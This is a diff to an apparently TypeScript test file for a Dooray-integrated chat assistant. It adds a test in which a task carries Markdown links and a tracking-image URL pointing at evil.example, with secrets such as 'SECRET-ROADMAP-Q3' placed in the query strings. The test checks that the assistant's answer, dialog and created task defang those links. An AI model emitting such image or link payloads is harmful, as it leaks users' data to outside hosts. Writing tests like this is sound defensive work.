@@ -212,7 +212,10 @@ describe("할 일로 만들기", () => {
       DOORAY_API_TOKEN: SAMPLE_TOKEN,
     });
   });
-  afterEach(() => h.dev.idle());
+  afterEach(async () => {
+    await h.dev.idle();
+    api.created.length = 0;
+  });
   afterAll(async () => {
     await h?.close();
     await api?.close();
@@ -239,6 +242,29 @@ describe("할 일로 만들기", () => {
     await h.dev.idle();
     return { status: response.status, body: (text ? JSON.parse(text) : {}) as Record<string, unknown>, posts: h.dooray.postsFor(hookId).map((post) => post.body.text) };
   };
+
+  it("keeps content's outside links and images out of the answer, its progress, its sources, the dialog and the task", async () => {
+    const poisoned = api.addTask("[클릭](https://evil.example/t) 배포", "상태 ![status](https://evil.example/pixel.png?d=SECRET-ROADMAP-Q3)\n자세히: https://evil.example/doc?d=SECRET-PLAN");
+    const sent = await h.command(`정리해줘 [[call:read_task:{"taskId":"${poisoned}"}]]`, { channelId: TASK_CHANNEL });
+    await h.dev.idle();
+    const posts = h.dooray.postsFor(sent.hookId).map((post) => post.body as { text: string; attachments?: { actions: { name: string; value: string }[] }[] });
+    const shown = posts.map((post) => post.text).join("\n");
+    // The model read the task as it is (the tool result is not filtered), but nothing it wrote after carries the links.
+    expect(h.model.requests.at(-1)!.body.messages.some((message) => message.role === "tool" && message.content.includes("https://evil.example/pixel.png"))).toBe(true);
+    expect(shown).not.toMatch(/evil\.example|SECRET-ROADMAP|SECRET-PLAN|pixel\.png/);
+    const final = posts.at(-1)!;
+    expect(final.text).toContain("[이미지: status (evil[.]example)]");
+    expect(final.text).toContain(`- 클릭 (evil[.]example) 배포: https://guide.dooray.com/task/${SAMPLE_PROJECT_ID}/${poisoned}`);
+    const log = h.logs.map((line) => JSON.parse(line)).findLast((entry) => entry.event === "job.answered" || entry.linksRemoved !== undefined);
+    expect(log?.linksRemoved).toBeGreaterThanOrEqual(2);
+    // The dialog is prefilled from the stored, screened answer; a body typed with an outside image is screened too.
+    const task = Object.fromEntries((final.attachments ?? []).flatMap((block) => block.actions).map((action) => [action.name, action.value])).task!;
+    await pressIn(TASK_CHANNEL, task);
+    const dialog = h.dooray.dialogs.at(-1)!.body;
+    expect(JSON.stringify(dialog)).not.toMatch(/evil\.example|SECRET/);
+    await submitTask(dialog.callbackId, { title: "점검", body: "보기 ![x](https://evil.example/p.png?d=SECRET-TYPED) 끝" });
+    expect(api.created.at(-1)).toMatchObject({ subject: "점검", body: "보기 [이미지: x (evil[.]example)] 끝" });
+  });
 
   it("puts a fourth button under answers only where the channel has a taskProject", async () => {
     expect(Object.keys(await answerIn(TASK_CHANNEL, "배포 순서 정리해줘"))).toEqual(["share", "regenerate", "followUp", "task"]);
